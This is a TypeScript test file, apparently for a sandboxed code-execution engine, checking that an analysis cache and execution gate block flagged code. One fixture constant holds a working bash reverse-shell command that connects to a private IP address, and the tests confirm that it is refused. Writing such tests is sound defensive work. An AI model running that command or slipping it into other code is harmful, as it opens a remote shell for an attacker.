// The analysis cache in front of the execution gate: code sent again is judged by the analysis kept
// from the first time, which is the same answer; other code (one byte, another caller) is analysed anew;
// blocked code stays blocked and never runs; the policy of the moment decides every call.

import { afterEach, describe, expect, it } from "vitest";
import type { SandgateConfig } from "../../src/config/index.js";
import { isSandgateError } from "../../src/errors/index.js";
import type { Engine } from "../../src/execution/index.js";
import { Analyzer, type ExecutionEvent, type GovernanceEvent } from "../../src/features/governance/index.js";
import { AnalysisCache } from "../../src/features/governance/analysis/analysis-cache.js";
import { createTestEngine, type TestEngine } from "../helpers.js";

const open: TestEngine[] = [];
afterEach(async () => {
  for (const fx of open.splice(0)) await fx.close();
});

function governed(pool = 0): { engine: Engine; config: SandgateConfig; events: GovernanceEvent[] } {
  const fx = createTestEngine({}, { python: 0, javascript: 0, bash: pool }, { governed: true });
  open.push(fx);
  const events: GovernanceEvent[] = [];
  fx.app.governance.events.subscribe({ record: (event) => void events.push(event) });
  return { engine: fx.engine, config: fx.config, events };
}

async function refusal(run: Promise<unknown>): Promise<string | undefined> {
  try {
    await run;
    return undefined;
  } catch (error) {
    return isSandgateError(error) ? error.code : String(error);
  }
}

const REVERSE_SHELL = "touch /workspace/ran\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
/** One byte from a call of os.system, which the Python rules report. */
const LOOKALIKE = `import os\nos.systen("ls")`;
const SYSTEM = `import os\nos.system("ls")`;

describe("the analysis cache", () => {
  it("gives the same analysis for code sent again as the first analysis of it", async () => {
    const analyzer = new Analyzer();
    const first = await analyzer.analyze("bash", REVERSE_SHELL, { owner: "alice" });
    const again = await analyzer.analyze("bash", REVERSE_SHELL, { owner: "alice" });
    expect(first.findings.length).toBeGreaterThan(0);
    expect({ ...again, durationMs: 0 }).toEqual({ ...first, durationMs: 0 });
    await analyzer.close();
  });

  it("analyses code that differs by one byte anew", async () => {
    const analyzer = new Analyzer();
    expect((await analyzer.analyze("python", LOOKALIKE)).findings).toEqual([]);
    const changed = await analyzer.analyze("python", SYSTEM);
    expect(changed.findings.map((f) => f.category)).toContain("process-exec");
    await analyzer.close();
  });

  it("keys the same code of another caller or another language apart", () => {
    const key = AnalysisCache.key("python", SYSTEM, "alice");
    expect(AnalysisCache.key("python", SYSTEM, "bob")).not.toBe(key);
    expect(AnalysisCache.key("bash", SYSTEM, "alice")).not.toBe(key);
    expect(AnalysisCache.key("python", SYSTEM + " ", "alice")).not.toBe(key);
    expect(AnalysisCache.key("python", SYSTEM, "alice")).toBe(key);
  });

  it("keeps at most its bound of analyses, dropping the least recently used", async () => {
    const analyzer = new Analyzer();
    const cache = new AnalysisCache({ maxEntries: 2 });
    const analysis = await analyzer.analyze("python", "1");
    cache.set("a", { ...analysis });
    cache.set("b", { ...analysis });
    cache.get("a");
    cache.set("c", { ...analysis });
    expect([cache.get("a") !== undefined, cache.get("b") !== undefined, cache.get("c") !== undefined]).toEqual([true, false, true]);
    await analyzer.close();
  });
});

describe("the execution gate with kept analyses", () => {
  it("blocks a reverse shell sent twice in a session, and neither copy runs", async () => {
    const { engine, events } = governed();
    engine.sessions.ensure("s", "alice");
    expect(await refusal(engine.execute({ language: "bash", code: REVERSE_SHELL, sessionId: "s", owner: "alice" }))).toBe("POLICY_BLOCKED");
    expect(await refusal(engine.execute({ language: "bash", code: REVERSE_SHELL, sessionId: "s", owner: "alice" }))).toBe("POLICY_BLOCKED");
    expect((await engine.files.list("s", ".", "alice")).entries.map((e) => e.name)).not.toContain("ran");
    const runs = events.filter((e): e is ExecutionEvent => e.kind === "execution");
    expect(runs.map((e) => e.status)).toEqual(["blocked", "blocked"]);
  });

  it("blocks a stateless reverse shell while its sandbox starts, sent twice, and records no run of it", async () => {
    const { engine, events } = governed(0);
    expect(await refusal(engine.execute({ language: "bash", code: REVERSE_SHELL, owner: "alice" }))).toBe("POLICY_BLOCKED");
    expect(await refusal(engine.execute({ language: "bash", code: REVERSE_SHELL, owner: "alice" }))).toBe("POLICY_BLOCKED");
    const runs = events.filter((e): e is ExecutionEvent => e.kind === "execution");
    expect(runs.map((e) => e.status)).toEqual(["blocked", "blocked"]);
    // The sandboxes started for the blocked calls were never used and are gone.
    await expect.poll(() => engine.admissionState().sandboxes, { timeout: 10_000 }).toBe(0);
  });

  it("runs allowed stateless code with and without a ready spare, with its security summary", async () => {
    const { engine, events } = governed(1);
    for (let i = 0; i < 3; i++) {
      const result = await engine.execute({ language: "bash", code: "echo $((20 + 22))", owner: "alice" });
      expect(result.status).toBe("ok");
      expect(result.stdout.trim()).toBe("42");
      expect(result.security?.action).toBe("allow");
    }
    expect(events.filter((e) => e.kind === "execution").map((e) => (e).status)).toEqual(["ok", "ok", "ok"]);
  });

  it("decides kept analyses with the policy of the moment: code allowed before is blocked once its category is", async () => {
    const { engine, config, events } = governed();
    engine.sessions.ensure("s", "alice");
    const code = `${SYSTEM}\nopen("/workspace/ran", "a").write("x")`;
    const allowed = await engine.execute({ language: "python", code, sessionId: "s", owner: "alice" });
    expect(allowed.status).toBe("ok");
    expect(allowed.security?.action).toBe("allow");
    config.security.categories = { "process-exec": "block" };
    expect(await refusal(engine.execute({ language: "python", code, sessionId: "s", owner: "alice" }))).toBe("POLICY_BLOCKED");
    // The blocked copy did not append its x.
    expect((await engine.files.read("s", "ran", "utf8", "alice")).content).toBe("x");
    expect(events.filter((e): e is ExecutionEvent => e.kind === "execution").map((e) => e.status)).toEqual(["ok", "blocked"]);
  });
});
